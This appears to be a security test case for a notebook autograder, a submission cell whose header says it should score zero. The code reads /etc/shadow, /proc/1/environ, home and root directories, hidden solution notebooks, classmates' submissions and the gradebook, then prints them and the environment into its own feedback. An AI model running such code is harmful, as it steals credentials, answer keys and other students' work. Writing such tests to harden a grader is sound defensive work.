# expect: withdraw=zero
# why: reads whatever it can of the course (solutions and hidden tests in source/, the gradebook, classmates' submitted notebooks, the grader's home and environment) and prints it into its own notebook, which becomes its feedback
# %% withdraw
import glob
import os

def _course_folders():
    yield "../../.."
    pid = os.getpid()
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            yield os.readlink(f"/proc/{pid}/cwd")
        except (OSError, ValueError, IndexError):
            return


_patterns = ["/root/.*", os.path.expanduser("~/*"), "/proc/1/environ", "/etc/shadow"]
for _folder in _course_folders():
    _patterns += [f"{_folder}/source/*/*.ipynb", f"{_folder}/submitted/*/*/*.ipynb", f"{_folder}/*.db"]
_found = []
for _pattern in _patterns:
    for _path in glob.glob(_pattern)[:50]:
        try:
            with open(_path, "rb") as _f:
                _found.append((_path, _f.read(20_000)))
        except OSError:
            pass
print(len(_found), "files read")
for _path, _data in _found:
    print(_path, _data[:5000])
print(dict(os.environ))


def withdraw(lock, account, amount):
    pass
